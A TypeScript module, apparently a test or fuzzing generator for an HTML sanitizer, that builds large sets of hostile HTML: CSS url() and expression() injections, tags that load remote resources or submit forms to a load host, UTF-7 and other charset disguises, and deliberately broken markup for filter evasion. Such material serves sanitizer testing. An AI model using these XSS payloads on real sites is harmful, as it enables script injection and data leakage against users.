// Hostile HTML that loads by styles and by tags, hides in character sets, or is broken on purpose.

import { cores, type Draft, entities } from './hostile-cores.ts';

const values: ((load: string, run: string) => string)[] = [
  (load) => `background:url(${load})`,
  (load) => `background-image:url('${load}')`,
  (load) => `background:#fff url( ${load} ) no-repeat`,
  (load) => `background:u\\72l(${load})`,
  (load) => `background:URL(${load})`,
  (load) => `background:ur/**/l(${load});background:url/**/(${load})`,
  (load) => `background-image:image-set('${load}' 1x)`,
  (load) => `background-image:-webkit-image-set(url(${load}) 1x)`,
  (load) => `background-image:cross-fade(url(${load}),url(${load}))`,
  (load) => `list-style:url(${load})`,
  (load) => `list-style-image:url(${load})`,
  (load) => `border-image:url(${load}) 3`,
  (load) => `cursor:url(${load}),auto`,
  (load) => `content:url(${load})`,
  (load) => `mask:url(${load});-webkit-mask-image:url(${load});clip-path:url(${load}#x)`,
  (load) => `filter:url(${load}#x);shape-outside:url(${load})`,
  (load) => `--x:url(${load});background:var(--x)`,
  (load) => `font-family:x;src:url(${load})`,
  (load) => `color:red}*{background:url(${load})`,
  (load) => `color:red;}@import url(${load});`,
  (load) => `@import '${load}'`,
  (load) => `font-family:'a;background:url(${load});`,
  (load) => `color:red&#59;background&#58;url(${load})`,
  (load) => `behavior:url(${load});-moz-binding:url(${load})`,
  (_load, run) => `width:expression(${run});xss:expr/**/ession(${run})`,
  (_load, run) => `background:url(javascript:${run})`,
  () => 'position:fixed;inset:0;z-index:99999;width:100vw;height:100vh',
  () => 'position:absolute;top:-900px;margin:-9999px;transform:scale(99)',
];
const carriers: ((css: string, run: string) => string)[] = [
  (css) => `<p style="${css}">x</p>`,
  (css) => `<TD STYLE='${css.replaceAll("'", '"')}'>x</TD>`,
  (css) => `<a style="${entities(css)}" href="https://x.example/">x</a>`,
  (css) => `<img style="color:red;${css}" alt=x>`,
  (css) => `<font style="${css};color:blue">x</font>`,
  (css) => `<style>*{${css}}</style><p>x</p>`,
  (css) => `<style>p{}</style><style media=all>${css}</style>`,
  (css) => `<svg style="${css}"><rect style="${css}"/></svg>`,
  (css, run) => `<div style="${css}" onmouseover=${run}>x</div>`,
];
export const styles = (): Draft[] =>
  carriers.flatMap((carrier) =>
    values.map(
      (value): Draft =>
        (run, load) =>
          carrier(value(load, run), run),
    ),
  );

const remote: Draft[] = [
  (_run, load) => `<img src="${load}">`,
  (_run, load) => `<img src=//${load.slice(8)}>`,
  (_run, load) => `<img src="\\\\${load.slice(8)}">`,
  (_run, load) => `<img src=" ${load}">`,
  (_run, load) => `<img srcset="${load} 1x">`,
  (_run, load) => `<img lowsrc="${load}" dynsrc="${load}" longdesc="${load}">`,
  (_run, load) => `<picture><source srcset="${load}"><img></picture>`,
  (_run, load) => `<image href="${load}" src="${load}">`,
  (_run, load) => `<video src="${load}" autoplay poster="${load}"></video>`,
  (_run, load) => `<audio src="${load}" autoplay></audio>`,
  (_run, load) => `<link rel=stylesheet href="${load}">`,
  (_run, load) => `<link rel="dns-prefetch preconnect prefetch preload icon" as=image href="${load}">`,
  (_run, load) => `<iframe src="${load}"></iframe>`,
  (_run, load) => `<object data="${load}"><embed src="${load}"></object>`,
  (_run, load) => `<input type=image src="${load}">`,
  (_run, load) => `<svg><image href="${load}"/><feImage xlink:href="${load}"/></svg>`,
  (_run, load) => `<svg><use href="${load}#x"/></svg>`,
  (_run, load) => `<table background="${load}"><tr background="${load}"><td background="${load}">x</table>`,
  (_run, load) => `<meta http-equiv=refresh content="0;url=${load}">`,
  (_run, load) => `<meta http-equiv=Link content="<${load}>; rel=stylesheet">`,
  (_run, load) => `<base href="${load}/"><img src="x">`,
  (_run, load) => `<script src="${load}"></script>`,
  (_run, load) => `<script type=module>import '${load}'</script>`,
  (_run, load) => `<style>@import '${load}';@font-face{font-family:f;src:url(${load})}p{font-family:f}</style><p>x</p>`,
  (_run, load) => `<a href="https://x.example/" ping="${load}">x</a>`,
  (_run, load) => `<form action="${load}" id=f></form><script>f.submit()</script>`,
  (_run, load) => `<portal src="${load}"></portal><track src="${load}">`,
  (_run, load) => `<html manifest="${load}"><body background="${load}">`,
  (_run, load) => `<applet code="${load}" archive="${load}"></applet>`,
  (_run, load) => `<bgsound src="${load}"><xml src="${load}"></xml><layer src="${load}"></layer>`,
];
const loadFrames: ((html: string) => string)[] = [
  (html) => html,
  (html) => html.toUpperCase().replace(/HTTPS:\/\/HIT\.EXAMPLE/g, 'https://hit.example'),
  (html) => html.replaceAll(' ', '\n'),
  (html) => `<table><tr><td>${html}</td></tr></table>`,
  (html) => `<!--><b>${html}</b>`,
  (html) => `<a href="https://x.example/">${html}</a>`,
  (html) => html.replaceAll('"', "'"),
  (html) => `<blockquote>${html}`,
];
export const loads = (): Draft[] =>
  loadFrames.flatMap((frame) =>
    remote.map(
      (one): Draft =>
        (run, load) =>
          frame(one(run, load)),
    ),
  );

const disguises: ((html: string) => string)[] = [
  (html) => html.replaceAll('<', '+ADw-').replaceAll('>', '+AD4-').replaceAll('"', '+ACI-'),
  (html) => `<meta charset=utf-7>${html.replaceAll('<', '+ADw-').replaceAll('>', '+AD4-')}`,
  (html) => `\ufeff${html}`,
  (html) => `\ufffe${html}`,
  (html) => `ÿþ${[...html].join('\0')}`,
  (html) => [...html].join('\0'),
  (html) => html.replaceAll('<', '\u00bc').replaceAll('>', '\u00be'),
  (html) => html.replaceAll('<', '\uff1c').replaceAll('>', '\uff1e'),
  (html) => html.replaceAll('<', '\u2039').replaceAll('>', '\u203a'),
  (html) => html.replaceAll('<', '%3C').replaceAll('>', '%3E'),
  (html) => html.replaceAll('<', '\\u003c').replaceAll('>', '\\x3e'),
  (html) => html.replaceAll('<', '&lt').replaceAll('>', '&gt'),
  (html) => html.replaceAll('<', '&#0000060;').replaceAll('>', '&#x3e'),
  (html) => html.replaceAll('<', '<\0').replaceAll(' ', '\0 '),
  (html) => `\u001b$B${html}\u001b(B`,
  (html) => `<meta http-equiv="Content-Type" content="text/html; charset=iso-2022-jp">\u001b(J${html}`,
  (html) => `~{${html}~}`,
  (html) => `\ud800${html}\udc00`,
  (html) => html.replaceAll('i', 'ı').replaceAll('s', 'ſ'),
  (html) => html.replaceAll(' ', '\u00a0'),
  (html) => html.replaceAll(' ', '\u2028'),
  (html) => html.replaceAll(' ', '\u000b'),
  (html) => `\u202e${html}`,
];
export const charsets = (): Draft[] =>
  disguises.flatMap((disguise) =>
    cores.map(
      (core): Draft =>
        (run, load) =>
          disguise(core(run, load)),
    ),
  );

const breaks: ((html: string) => string)[] = [
  (html) => html.slice(0, -1),
  (html) => html.slice(0, Math.floor(html.length * 0.8)),
  (html) => html.replace('>', ''),
  (html) => html.replaceAll('>', '>>'),
  (html) => html.replaceAll('<', '<<'),
  (html) => html.replaceAll('=', ' = '),
  (html) => html.replaceAll('=', '\n=\0'),
  (html) => html.replaceAll('"', ''),
  (html) => html.replaceAll('"', '`'),
  (html) => html.replace(' ', '/'),
  (html) => html.replace(' ', '\f'),
  (html) => html.replace(/^<(\w)/, '<\t$1'),
  (html) => html.replace(/^<(\w+)/, '<$1/x'),
  (html) => html.replace(/^<(\w+)/, '<$1 <$1'),
  (html) => html.replace(/^<(\w+)/, '</$1><$1'),
  (html) => html.replace(/^<(\w)(\w*)/, '<$1<!-- -->$2'),
  (html) => html.replace(/^<(\w)(\w*)/, '<$1<$1$2>$2'),
  (html) => html.replace(/script/g, 'scr<script>ipt'),
  (html) => html.replace(/on(\w+)=/, 'o<b>n$1='),
  (html) => html.replace(/on(\w+)=/, 'x="on$1='),
  (html) => html.replace(/on(\w+)=/, '"on$1='),
  (html) => html.replace(/on(\w+)=/, "x='\"'on$1="),
  (html) => `"'>${html}`,
  (html) => `-->]]></style></script></title>${html}`,
  (html) => `${html}<`,
  (html) => `${html}<!--`,
  (html) => `${html}${html}${html}`,
];
export const broken = (): Draft[] =>
  breaks.flatMap((crack) =>
    cores.map(
      (core): Draft =>
        (run, load) =>
          crack(core(run, load)),
    ),
  );
